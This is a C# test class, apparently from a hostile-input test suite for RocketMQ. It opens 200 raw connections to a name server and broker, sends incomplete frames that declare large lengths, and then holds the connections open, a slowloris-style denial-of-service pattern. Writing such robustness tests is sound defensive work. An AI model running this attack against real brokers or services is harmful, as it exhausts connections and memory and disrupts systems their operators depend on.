using System.Buffers.Binary;

namespace RocketMQ.Hostile.Tests.Attacks;

/// <summary>Connections that begin a frame, small or large, and then say nothing more.</summary>
internal sealed class HalfOpen : IAttack
{
    private const int Connections = 200;

    public async Task RunAsync(Target target, CancellationToken cancellationToken)
    {
        var connections = new List<RawConnection>();
        try
        {
            for (var i = 0; i < Connections; i++)
            {
                var server = i % 4 == 0 ? target.NameServer : target.Broker;
                if (await RawConnection.OpenAsync(server, cancellationToken) is not { } connection)
                {
                    break;
                }

                connections.Add(connection);
                var part = new byte[4_000_000];
                BinaryPrimitives.WriteInt32BigEndian(part, 8_000_000);
                await connection.SendAsync(part.AsMemory(0, i % 10 == 0 ? part.Length : 1 + i % 8), cancellationToken);
            }

            await Task.Delay(Timeout.Infinite, cancellationToken);
        }
        finally
        {
            connections.ForEach(c => c.Dispose());
        }
    }
}
